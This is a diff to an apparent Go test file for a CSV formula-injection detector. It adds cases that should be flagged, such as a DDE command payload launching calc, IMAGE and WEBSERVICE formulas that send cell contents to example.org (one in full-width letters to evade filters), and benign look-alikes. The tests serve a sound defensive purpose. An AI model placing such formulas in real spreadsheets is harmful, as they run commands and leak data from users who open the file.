@@ -41,7 +41,12 @@ func tableTricks() []Case {
 	runs("with-a-link-that-is-put-together.csv", "=HYPERLINK(CONCATENATE(\"http://example.org/\",A1),\"x\")\n")
 	runs("with-a-link-to-a-file-server.csv", "=HYPERLINK(\"\\\\example.org\\a\",\"x\")\n")
 	runs("with-a-picture-that-sends-cells.csv", "=IMAGE(\"http://example.org/?\"&A1)\n")
+	runs("with-dde-without-quotes-behind-a-plus.csv", "a,b\n1,+cmd|/Ccalc!A0\n")
+	runs("with-a-picture-of-a-cells-address-behind-a-plus.csv", "\"https://example.org/\",+IMAGE(A1)\n")
+	runs("with-a-picture-function-that-is-handed-on.csv", "https://example.org/,\"=MAP(A1,IMAGE)\"\n")
+	runs("with-a-function-in-wide-letters.csv", "https://example.org/,=ＷＥＢＳＥＲＶＩＣＥ(A1)\n")
 
+	fine("with-bars-and-cells-behind-signs.csv", "a,b\n-a|b! c1,- cmd|x!A0 (image(a2 of it))\n+image (a2),-image(s)\n=IF(A1=1;image;2),-1\n")
 	fine("with-remarks.csv", "a,b\n=A1+4,\"-- (see call (2))\"\n-1.5,\"- (a|b), call (me)!\"\n+49 (30) 1234,@jane\njane@example.com,(exec(utive))\n")
 	fine("with-a-link-within.csv", "=HYPERLINK(\"#\"&A1,\"x\")\n\"=HYPERLINK(\"\"mailto:a@example.com\"\",\"\"x & y (z)\"\")\"\n")
 	fine("of-bars-with-signs.csv", "a|b|c\n-1|+2|=A1+1\n@x|call (me)|wow!\n")
